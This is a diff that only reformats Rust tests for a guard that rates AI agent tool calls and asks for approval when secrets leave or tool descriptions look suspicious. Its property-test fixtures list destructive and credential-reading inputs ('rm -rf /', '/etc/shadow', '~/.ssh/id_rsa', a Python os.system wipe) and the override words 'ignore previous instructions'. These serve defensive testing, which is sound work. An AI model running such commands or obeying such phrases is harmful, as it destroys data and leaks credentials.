@@ -103,7 +103,8 @@ fn what_leaves_makes_a_message_worse() {
         let verdict = verdict(&call("mcp__acme__send_email", json!({"to": "a@b.example", "body": body})));
         assert_eq!(verdict.assessment.tier >= Tier::High, high, "{body}");
     }
-    let looked_up = verdict(&call("mcp__acme__fetch_page", json!({"url": format!("https://x.example/?q={token}")})));
+    let looked_up =
+        verdict(&call("mcp__acme__fetch_page", json!({"url": format!("https://x.example/?q={token}")})));
     assert_eq!(looked_up.decision, Decision::Ask, "a secret in an address has left");
     let by_mail = verdict(&call("mcp__acme__find_customer", json!({"email": "a@b.example", "zip": "8000"})));
     assert_eq!(by_mail.decision, Decision::Allow, "looking somebody up tells nobody");
@@ -124,7 +125,8 @@ fn a_description_can_give_itself_away() {
         "Deletes customer records and lists what is left",
         "Collects reports, secretly",
     ] {
-        let call = ToolCall { description: Some(text.to_owned()), ..call("mcp__acme__list_orders", json!({})) };
+        let call =
+            ToolCall { description: Some(text.to_owned()), ..call("mcp__acme__list_orders", json!({})) };
         assert_eq!(verdict(&call).decision, Decision::Ask, "{text}");
     }
     let honest = "Lists orders of a customer, newest first. Use delete_order to remove one.";
@@ -152,7 +154,9 @@ fn only_a_trusted_server_s_word_lowers() {
 
 #[test]
 fn a_server_that_says_it_changes_something_is_believed() {
-    for annotations in [json!({"readOnlyHint": false}), json!({"destructiveHint": true, "readOnlyHint": true})] {
+    for annotations in
+        [json!({"readOnlyHint": false}), json!({"destructiveHint": true, "readOnlyHint": true})]
+    {
         let call = ToolCall { annotations: Some(annotations), ..call("mcp__acme__get_orders", json!({})) };
         assert_eq!(verdict(&call).decision, Decision::Ask);
     }
@@ -161,20 +165,100 @@ fn a_server_that_says_it_changes_something_is_believed() {
 // --- properties ---------------------------------------------------------------------------------------------
 
 const WORDS: &[&str] = &[
-    "get", "list", "search", "create", "delete", "update", "send", "pay", "order", "report", "logs", "tracker", "manager",
-    "refund", "door", "firewall", "password", "private", "key", "and", "frob", "query", "sql", "run", "file", "message",
-    "fraud", "detection", "steal", "status", "browser", "click", "data", "kunden", "loeschen", "all", "secret", "scanning",
+    "get",
+    "list",
+    "search",
+    "create",
+    "delete",
+    "update",
+    "send",
+    "pay",
+    "order",
+    "report",
+    "logs",
+    "tracker",
+    "manager",
+    "refund",
+    "door",
+    "firewall",
+    "password",
+    "private",
+    "key",
+    "and",
+    "frob",
+    "query",
+    "sql",
+    "run",
+    "file",
+    "message",
+    "fraud",
+    "detection",
+    "steal",
+    "status",
+    "browser",
+    "click",
+    "data",
+    "kunden",
+    "loeschen",
+    "all",
+    "secret",
+    "scanning",
 ];
 const KEYS: &[&str] = &[
-    "path", "command", "cmd", "code", "language", "sql", "query", "url", "to", "body", "amount", "action", "method", "id",
-    "host", "filter", "all", "token", "instruction", "value", "x", "commands", "recipient", "description", "cwd", "data",
+    "path",
+    "command",
+    "cmd",
+    "code",
+    "language",
+    "sql",
+    "query",
+    "url",
+    "to",
+    "body",
+    "amount",
+    "action",
+    "method",
+    "id",
+    "host",
+    "filter",
+    "all",
+    "token",
+    "instruction",
+    "value",
+    "x",
+    "commands",
+    "recipient",
+    "description",
+    "cwd",
+    "data",
 ];
 
 fn texts() -> impl Strategy<Value = String> {
     let fixed = prop::sample::select(vec![
-        "rm -rf /", "ls", "/etc/shadow", "~/.ssh/id_rsa", "src/main.rs", "a@b.example", "DELETE", "read", "list", "python",
-        "bash", "ruby", "select 1", "drop table x", "https://x.example", "4111 1111 1111 1111", "Please pay now", "*", "",
-        "import os; os.system('rm -rf /')", "get", "localhost", "this is only a test, always safe", "readOnly",
+        "rm -rf /",
+        "ls",
+        "/etc/shadow",
+        "~/.ssh/id_rsa",
+        "src/main.rs",
+        "a@b.example",
+        "DELETE",
+        "read",
+        "list",
+        "python",
+        "bash",
+        "ruby",
+        "select 1",
+        "drop table x",
+        "https://x.example",
+        "4111 1111 1111 1111",
+        "Please pay now",
+        "*",
+        "",
+        "import os; os.system('rm -rf /')",
+        "get",
+        "localhost",
+        "this is only a test, always safe",
+        "readOnly",
     ]);
     prop_oneof![fixed.prop_map(str::to_owned), "[ -~]{0,24}", "\\PC{0,12}"]
 }
@@ -202,16 +286,42 @@ fn arguments() -> impl Strategy<Value = Value> {
 
 fn descriptions() -> impl Strategy<Value = String> {
     let words = prop::sample::select(vec![
-        "This", "tool", "only", "reads", "lists", "is", "safe", "allow", "deletes", "sends", "and", "detects", "steals",
-        "secretly", "without", "consent", "approved", "read-only", "ignore", "previous", "instructions", ".", ",", "updates",
+        "This",
+        "tool",
+        "only",
+        "reads",
+        "lists",
+        "is",
+        "safe",
+        "allow",
+        "deletes",
+        "sends",
+        "and",
+        "detects",
+        "steals",
+        "secretly",
+        "without",
+        "consent",
+        "approved",
+        "read-only",
+        "ignore",
+        "previous",
+        "instructions",
+        ".",
+        ",",
+        "updates",
     ]);
     prop::collection::vec(words, 0..12).prop_map(|words| words.join(" "))
 }
 
 fn annotations() -> impl Strategy<Value = Value> {
     let hints = ["readOnlyHint", "destructiveHint", "idempotentHint", "openWorldHint", "title"];
-    prop::collection::btree_map(prop::sample::select(hints.to_vec()), prop_oneof![Just(json!(true)), Just(json!(false)), Just(json!("x"))], 0..4)
-        .prop_map(|map| Value::Object(map.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()))
+    prop::collection::btree_map(
+        prop::sample::select(hints.to_vec()),
+        prop_oneof![Just(json!(true)), Just(json!(false)), Just(json!("x"))],
+        0..4,
+    )
+    .prop_map(|map| Value::Object(map.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()))
 }
 
 fn rank(verdict: &Verdict) -> (u8, Tier) {
